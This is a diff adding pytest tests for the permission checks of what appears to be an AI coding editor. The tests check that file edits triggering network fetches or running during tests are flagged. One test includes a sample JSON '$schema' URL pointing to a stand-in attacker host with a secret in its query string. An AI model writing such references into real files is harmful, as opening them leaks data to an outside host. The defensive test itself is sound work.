@@ -259,6 +259,50 @@ async def test_a_protected_file_is_asked_about_once_more_when_it_is_accepted(ben
         assert "editor settings" in str(asked[0])
 
 
+async def test_an_address_that_an_editor_would_fetch_is_asked_about_in_every_mode(bench: Bench) -> None:
+    asked: list[dict[str, Any]] = []
+
+    async def permit(params: dict[str, Any]) -> str:
+        asked.append(params)
+        return "reject_once" if params["reason"] else "allow_always"
+
+    away, here = ('{"$schema": "https://evil.example/?x=SECRET"}\n', '{"$schema": "./schema.json"}\n')
+    bench.script(
+        {"when": {"user": "propose", "round": 0}, "reply": [edit("a.json", "", away), edit("b.json", "", here)]},
+        {"when": {"user": "write", "round": 0}, "reply": [edit("c.json", "", here), edit("d.json", "", away)]},
+        {"reply": [{"text": "Done."}]},
+    )
+    async with await bench.start(permit=permit) as editor:
+        session = await new_session(editor, bench.root)
+        await chat(editor, session, "propose")
+        assert asked == []
+        with pytest.raises(ClientError, match="causes a network request"):
+            await accept(editor, sessionId=session)
+        for each in await hunks(editor, sessionId=session):
+            if each["name"] == "b.json":
+                await accept(editor, sessionId=session, hunkIds=[each["hunkId"]])
+        await editor.request("conduit/session/setMode", {"sessionId": session, "modeId": "auto"})
+        await chat(editor, session, "write")
+    names = sorted(path.name for path in bench.root.glob("*.json"))
+    assert names == ["b.json", "c.json"]
+    said = "names https://evil.example/?x=SECRET, which causes a network request when an editor opens the file."
+    assert [each["reason"] for each in asked] == [f"a.json {said}", "", f"d.json {said}"]
+    offered = [[option["optionId"] for option in each["options"]] for each in asked if each["reason"]]
+    assert offered == [["allow_once", "reject_once"]] * 2
+
+
+async def test_a_proposal_for_a_file_that_runs_says_so(bench: Bench) -> None:
+    bench.script(
+        {"when": {"round": 0}, "reply": [edit("conftest.py", "", "x = 1\n"), edit("a.py", "", "x = 1\n")]},
+        {"reply": [{"text": "Proposed."}]},
+    )
+    async with await bench.start() as editor:
+        session = await new_session(editor, bench.root)
+        await chat(editor, session, "change it")
+        notes = {each["name"]: each["note"] for each in await hunks(editor, sessionId=session)}
+        assert notes == {"a.py": "", "conftest.py": "runs with the tests"}
+
+
 async def test_hunks_follow_a_file_that_the_person_renames(bench: Bench) -> None:
     async with await bench.start() as editor:
         session, uri = await proposed(bench, editor)
